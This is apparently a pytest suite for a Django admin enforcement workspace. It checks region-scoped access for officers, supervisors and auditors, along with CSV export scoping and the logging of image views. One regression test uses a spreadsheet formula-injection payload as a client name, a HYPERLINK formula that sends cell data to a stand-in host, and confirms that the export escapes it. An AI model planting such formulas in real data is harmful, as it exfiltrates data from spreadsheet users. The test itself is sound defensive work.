"""Who sees what in the officer workspace, for each role, including by guessing URLs: an officer
sees their own region only (lists, pages, direct URLs, form choices, exports, images); a
supervisor every region; an auditor reads everything, changes nothing and sees no image."""

import csv
import io

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client as HttpClient

from enforcement import csvfile
from enforcement.models import AccessRecord, ActivationCode, AuditEvent, InvestigationTask, ReferencePhoto
from tests import factories, images
from tests.officer import face_task, staff_of_every_role

pytestmark = pytest.mark.django_db

TASKS = "/admin/enforcement/investigationtask/"


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    """Two face tasks, one in the GTA and one in Quebec, and staff of every role. Made once for
    the module (scoring is real and takes a second each); each test runs in a transaction
    that is rolled back."""
    with django_db_blocker.unblock():
        from django.db import transaction

        atomic = transaction.atomic()
        atomic.__enter__()
        data = {
            "gta": face_task(region_code="gta", family_name="Gagnon"),
            "quebec": face_task(region_code="quebec", family_name="Lavoie"),
            **staff_of_every_role(),
        }
        yield data
        transaction.set_rollback(True)
        atomic.__exit__(None, None, None)


def upload():
    return SimpleUploadedFile("photo.jpg", images.jpeg(images.astronaut()), "image/jpeg")


def browser(user) -> HttpClient:
    http = HttpClient()
    factories.staff_login(http, user)
    return http


def urls_of(case) -> dict[str, str]:
    task, client, checkin, photo = case["task"], case["client"], case["checkin"], case["photo"]
    return {
        "task page": f"{TASKS}{task.pk}/change/",
        "task selfie": f"{TASKS}{task.pk}/selfie/",
        "task reference": f"{TASKS}{task.pk}/reference/{photo.pk}/",
        "client page": f"/admin/enforcement/client/{client.pk}/change/",
        "reference image": f"/admin/enforcement/referencephoto/{photo.pk}/image/",
        "reference page": f"/admin/enforcement/referencephoto/{photo.pk}/change/",
        "check-in page": f"/admin/reportin/checkin/{checkin.pk}/change/",
        "check-in selfie": f"/admin/reportin/checkin/{checkin.pk}/selfie/",
        "device page": f"/admin/reportin/device/{case['device'].pk}/change/",
        "window page": f"/admin/enforcement/reportingwindow/{case['window'].pk}/change/",
    }


LISTS = [
    TASKS, "/admin/enforcement/client/", "/admin/enforcement/referencephoto/", "/admin/enforcement/reportingcondition/",
    "/admin/enforcement/reportingwindow/", "/admin/enforcement/circumstancechange/", "/admin/enforcement/activationcode/",
    "/admin/enforcement/notification/", "/admin/enforcement/escalation/", "/admin/reportin/checkin/", "/admin/reportin/device/",
]


def refused(response) -> bool:
    """403 or 404, or admin's redirect for an object it cannot find (it shows nothing of it)."""
    return response.status_code in (403, 404) or (response.status_code == 302 and response.url.rstrip("/") == "/admin")


def test_an_officer_sees_only_their_region_in_every_list(world):
    http = browser(world["gta_officer"])
    own, other = world["gta"]["client"], world["quebec"]["client"]
    for url in LISTS:
        response = http.get(url, {"status": "all"} if url == TASKS else {})
        assert response.status_code == 200, url
        body = response.content.decode()
        assert other.uci not in body and other.family_name.upper() not in body, url
    queue = http.get(TASKS).content.decode()
    assert own.uci in queue


@pytest.mark.parametrize("name", [
    "task page", "task selfie", "task reference", "client page", "reference image", "reference page", "check-in page",
    "check-in selfie", "device page", "window page",
])
def test_an_officer_guessing_the_url_of_another_regions_record_is_refused(world, name):
    http = browser(world["gta_officer"])
    url = urls_of(world["quebec"])[name]
    response = http.get(url)
    assert refused(response), (url, response.status_code)
    assert world["quebec"]["client"].uci.encode() not in response.content
    assert not AccessRecord.objects.filter(viewer=world["gta_officer"]).exists()


def test_the_task_of_another_region_answers_403_with_no_detail(world):
    response = browser(world["gta_officer"]).get(urls_of(world["quebec"])["task page"])
    assert response.status_code == 403
    missing = browser(world["gta_officer"]).get(f"{TASKS}999999999/change/")
    assert missing.status_code == 404


def test_an_officer_cannot_decide_or_enrol_in_another_region_by_posting(world):
    http = browser(world["gta_officer"])
    task, client = world["quebec"]["task"], world["quebec"]["client"]
    for op, data in (("assign-me", {}), ("resolve", {"resolution": "identity_confirmed", "note": "guessing"})):
        assert refused(http.post(f"{TASKS}{task.pk}/{op}/", data))
        assert refused(http.post(f"{TASKS}{task.pk}/change/", data))
    assert refused(http.post(f"/admin/enforcement/client/{client.pk}/activation-code/"))
    assert refused(http.post(f"/admin/enforcement/client/{client.pk}/consent/", {
        "kind": "app_use", "decision": "withdrawn", "language": "en", "confirm": "on",
    }))
    assert refused(http.post(f"/admin/enforcement/client/{client.pk}/photos/", {"photo": upload()}))
    task.refresh_from_db()
    assert (task.status, task.assignee_id) == ("open", None)
    assert not ActivationCode.objects.filter(client=client, issued_by=world["gta_officer"]).exists()
    assert client.consent_records.filter(recorded_by=world["gta_officer"]).count() == 0
    assert ReferencePhoto.objects.filter(client=client).count() == 1


def test_an_officers_forms_offer_only_their_regions_clients_and_region(world):
    http = browser(world["gta_officer"])
    other = world["quebec"]["client"]
    add_photo = http.post("/admin/enforcement/referencephoto/add/", {"client": other.pk, "upload": upload()})
    assert add_photo.status_code == 200 and b"Select a valid choice" in add_photo.content
    assert ReferencePhoto.objects.filter(client=other).count() == 1
    condition = http.post("/admin/enforcement/reportingcondition/add/", {
        "client": other.pk, "method": "remote", "schedule": "weekly", "weekdays": [0], "window_start": "10:00",
        "window_minutes": 60, "grace_minutes": 30, "starts_on": "2030-01-01",
    })
    assert condition.status_code == 200 and b"Select a valid choice" in condition.content
    autocomplete = http.get("/admin/autocomplete/", {
        "app_label": "enforcement", "model_name": "referencephoto", "field_name": "client", "term": other.family_name,
    })
    assert autocomplete.status_code == 200 and autocomplete.json()["results"] == []
    add_client = http.get("/admin/enforcement/client/add/").content.decode()
    assert "Quebec" not in add_client and "Greater Toronto Area" in add_client


def test_an_export_holds_only_the_officers_region_and_is_audited(world):
    http = browser(world["gta_officer"])
    ids = [world["gta"]["task"].pk, world["quebec"]["task"].pk]
    response = http.post(TASKS, {"action": "export_csv", ACTION_CHECKBOX_NAME: ids, "index": 0})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = b"".join(response.streaming_content).decode().strip().splitlines()
    assert len(rows) == 2 and rows[1].startswith(f"{world['gta']['task'].pk},{world['gta']['client'].uci},")
    event = AuditEvent.objects.get(action="export.tasks", actor=world["gta_officer"])
    assert event.details["ids"] == [world["gta"]["task"].pk]


def test_the_task_export_quotes_a_name_a_spreadsheet_would_run(world):
    # Issue 14.11: the triage queue's export wrote client text as it was.
    from tests.officer import window_task

    task = window_task(region_code="gta", family_name='=HYPERLINK("https://evil.example/?"&A1,"Open")')
    http = browser(world["gta_officer"])
    response = http.post(TASKS, {"action": "export_csv", ACTION_CHECKBOX_NAME: [task.pk], "index": 0})
    [header, row] = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    name = row[header.index("client")]
    assert name.endswith('=HYPERLINK("https://evil.example/?"&A1,"Open")') and not name.startswith(csvfile.FORMULA_START)


def test_every_csv_file_is_written_by_the_one_escaping_writer():
    from tests.conftest import ROOT

    writers = [
        str(path.relative_to(ROOT))
        for folder in ("enforcement", "reportin", "backoffice", "biometrics", "config")
        for path in (ROOT / folder).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["enforcement/csvfile.py"]


def test_a_reference_photo_of_another_client_is_not_reachable_through_ones_own_task(world):
    http = browser(world["gta_officer"])
    url = f"{TASKS}{world['gta']['task'].pk}/reference/{world['quebec']['photo'].pk}/"
    assert http.get(url).status_code == 404
    assert not AccessRecord.objects.exists()


def test_images_of_ones_own_region_are_served_privately_and_each_is_recorded(world):
    http = browser(world["gta_officer"])
    urls = urls_of(world["gta"])
    for name in ("task selfie", "task reference", "reference image", "check-in selfie"):
        response = http.get(urls[name])
        assert response.status_code == 200, name
        assert response["Content-Type"] == "image/jpeg" and response.content[:2] == b"\xff\xd8"
        assert "no-store" in response["Cache-Control"]
    records = AccessRecord.objects.filter(viewer=world["gta_officer"]).order_by("id")
    assert [(r.object_type, r.task_id) for r in records] == [
        ("selfie", world["gta"]["task"].pk), ("reference_photo", world["gta"]["task"].pk), ("reference_photo", None), ("selfie", None),
    ]
    assert {r.client_id for r in records} == {world["gta"]["client"].pk}


def test_a_supervisor_sees_every_region_and_its_images(world):
    http = browser(world["supervisor"])
    queue = http.get(TASKS).content.decode()
    assert world["gta"]["client"].uci in queue and world["quebec"]["client"].uci in queue
    for name, url in urls_of(world["quebec"]).items():
        assert http.get(url).status_code == 200, name
    assert AccessRecord.objects.filter(viewer=world["supervisor"], client=world["quebec"]["client"]).count() == 4


def test_an_auditor_reads_everything_changes_nothing_and_sees_no_image(world):
    http = browser(world["auditor"])
    for url in LISTS:
        assert http.get(url).status_code == 200, url
    task = world["quebec"]["task"]
    page = http.get(f"{TASKS}{task.pk}/change/")
    assert page.status_code == 200
    body = page.content.decode()
    assert world["quebec"]["client"].uci in body
    assert f"{task.pk}/resolve/" not in body and f"{task.pk}/assign-me/" not in body and "/selfie/" not in body  # no decision forms, no images
    for name in ("task selfie", "task reference", "reference image", "check-in selfie"):
        assert http.get(urls_of(world["quebec"])[name]).status_code == 403, name
    assert http.post(f"{TASKS}{task.pk}/resolve/", {"resolution": "false_alarm", "note": "x"}).status_code == 403
    assert http.post(f"/admin/enforcement/client/{world['quebec']['client'].pk}/activation-code/").status_code == 403
    assert http.post(f"/admin/enforcement/client/{world['quebec']['client'].pk}/change/", {"given_name": "X"}).status_code == 403
    assert not AccessRecord.objects.exists()
    assert InvestigationTask.objects.get(pk=task.pk).status == "open"


def test_an_officer_without_a_region_sees_no_client(world):
    user = factories.staff("drifter", region_code=None)
    http = browser(user)
    for url in LISTS:
        response = http.get(url)
        assert response.status_code == 200
        assert world["gta"]["client"].uci.encode() not in response.content
    assert http.get(urls_of(world["gta"])["task selfie"]).status_code == 403


def test_someone_not_logged_in_gets_no_image(world):
    response = HttpClient().get(urls_of(world["gta"])["task selfie"])
    assert response.status_code == 302 and "/admin/login/" in response.url
    assert not AccessRecord.objects.exists()
